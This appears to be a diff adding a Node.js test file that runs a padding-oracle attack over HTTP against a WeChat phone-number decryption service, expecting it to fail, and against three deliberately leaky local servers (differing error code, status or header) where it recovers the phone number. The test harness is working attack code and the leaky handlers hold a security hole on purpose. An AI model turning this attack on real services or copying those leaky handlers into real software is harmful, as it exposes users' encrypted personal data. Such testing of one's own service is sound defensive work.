@@ -1,0 +1,123 @@
+// Whether a stranger can read a payload through the service: a padding-oracle attack over HTTP.
+//
+// https://en.wikipedia.org/wiki/Padding_oracle_attack. The attacker has a session of its own, as everybody may, somebody's
+// payload, and whatever differs between two answers. The same attacker is let loose on a server that leaks, to see it succeed.
+import assert from 'node:assert/strict';
+import { createDecipheriv } from 'node:crypto';
+import { createServer } from 'node:http';
+import { after, test } from 'node:test';
+import { decrypt } from 'padding-oracle-attacker';
+import { listen, post, send } from './client.mjs';
+import { phoneKit } from './phone-kit.mjs';
+
+const { createPhoneService, createSimulator } = phoneKit('http-oracle');
+const simulator = await createSimulator();
+after(() => simulator.close());
+
+const BLOCK = 16;
+const bodyOf = (session) => (payload) =>
+  JSON.stringify({ platform: 'wechat', session, detail: { iv: payload.subarray(0, BLOCK).toString('base64'), encryptedData: payload.subarray(BLOCK).toString('base64') } });
+
+/** All that an attacker can tell answers apart by, but for the time. */
+const looks = ({ statusCode, status = statusCode, headers, body, text = body }) => JSON.stringify([status, Object.entries(headers).filter(([name]) => !/^(date|connection|keep-alive)$/.test(name)).sort(), text]);
+
+/** Attacks a server and gives the plaintext, or `undefined`. */
+async function attack(port, session, sealed) {
+  const ciphertext = Buffer.concat([Buffer.from(sealed.iv, 'base64'), Buffer.from(sealed.encryptedData, 'base64')]);
+  const transformPayload = bodyOf(session);
+  // What most payloads look like that are not even padded well: the attacker asks for some, and takes the commonest answer.
+  const seen = [];
+  for (let i = 0; i < 9; i++) seen.push(looks(await send(port, { path: '/phone', ...post({}), body: transformPayload(Buffer.alloc(2 * BLOCK, 17 * i + 1)) })));
+  const refused = seen.sort((a, b) => seen.filter((one) => one === a).length - seen.filter((one) => one === b).length).at(-1);
+  try {
+    const { foundBytes } = await decrypt({
+      url: `http://127.0.0.1:${port}/phone`,
+      blockSize: BLOCK,
+      ciphertext,
+      concurrency: 32,
+      isCacheEnabled: false,
+      logMode: 'none',
+      makeInitialRequest: false,
+      requestOptions: { method: 'POST', headers: { 'content-type': 'application/json' }, data: '{POPAYLOAD}' },
+      transformPayload,
+      isDecryptionSuccess: (answer) => looks(answer) !== refused,
+    });
+    return foundBytes.toString('latin1');
+  } catch (error) {
+    assert.match(error.message, /Padding oracle failure/i);
+    return undefined;
+  }
+}
+
+/** Serves a handler for as long as a test, counts the requests, and keeps the statuses of the answers. */
+async function serve(t, handler) {
+  const asked = { count: 0, statuses: new Set() };
+  const server = createServer((request, response) => {
+    asked.count += 1;
+    response.once('finish', () => asked.statuses.add(response.statusCode));
+    return handler(request, response);
+  });
+  t.after(() => {
+    server.closeAllConnections();
+    server.close();
+  });
+  return { asked, port: await listen(server) };
+}
+
+async function victim() {
+  let sessionKey;
+  const fetch = async (url, init) => {
+    const response = await globalThis.fetch(url, init);
+    const text = await response.text();
+    sessionKey = JSON.parse(text).session_key ?? sessionKey;
+    return { status: response.status, headers: response.headers, text: async () => text };
+  };
+  const service = createPhoneService({ platforms: { wechat: simulator.config('wechat') }, logger: false, fetch });
+  const device = simulator.device('wechat');
+  const { session } = await service.login({ platform: 'wechat', code: await device.login() });
+  const sealed = await device.tap({ fast: 'sealed' });
+  assert.equal((await service.phone({ platform: 'wechat', session, detail: sealed })).phone.nationalNumber, device.phone);
+  return { service, session, sealed, device, sessionKey };
+}
+
+test('the service tells the attacker nothing', { timeout: 60_000 }, async (t) => {
+  const { service, session, sealed } = await victim();
+  const { port, asked } = await serve(t, service.node);
+  assert.equal(await attack(port, session, sealed), undefined);
+  t.diagnostic(`gave up after ${asked.count} requests`);
+  // Every one of them was opened and refused, none turned away at the door.
+  assert.deepEqual([asked.count >= 256, ...asked.statuses], [true, 422]);
+});
+
+for (const [what, leak] of [
+  ['another code', (response, bad) => response.writeHead(422).end(JSON.stringify({ error: { code: bad } }))],
+  ['another status', (response, bad) => response.writeHead(bad === 'padding' ? 422 : 400).end('{}')],
+  ['another header', (response, bad) => response.writeHead(422, bad === 'padding' ? {} : { 'x-request-cost': '2' }).end('{}')],
+]) {
+  test(`the same attacker reads everything from a server that gives wrong padding ${what} than wrong JSON`, { timeout: 60_000 }, async (t) => {
+    const { sealed, device, sessionKey, session } = await victim();
+    const { port, asked } = await serve(t, async (request, response) => {
+      const parts = [];
+      for await (const part of request) parts.push(part);
+      const { iv, encryptedData } = JSON.parse(Buffer.concat(parts)).detail;
+      const decipher = createDecipheriv('aes-128-cbc', Buffer.from(sessionKey, 'base64'), Buffer.from(iv, 'base64'));
+      let text;
+      try {
+        text = Buffer.concat([decipher.update(encryptedData, 'base64'), decipher.final()]).toString();
+      } catch {
+        return leak(response, 'padding');
+      }
+      try {
+        JSON.parse(text);
+        return response.writeHead(200).end('{}');
+      } catch {
+        return leak(response, 'json');
+      }
+    });
+    // Two blocks of the payload are enough to see it, and a tenth of the time.
+    const short = { iv: sealed.iv, encryptedData: Buffer.from(sealed.encryptedData, 'base64').subarray(0, 2 * BLOCK).toString('base64') };
+    const plaintext = await attack(port, session, short);
+    t.diagnostic(`read ${JSON.stringify(plaintext?.slice(0, 2 * BLOCK))} with ${asked.count} requests`);
+    assert.ok(plaintext?.includes(`"phoneNumber":"${device.phone}`.slice(0, 31)), plaintext);
+  });
+}
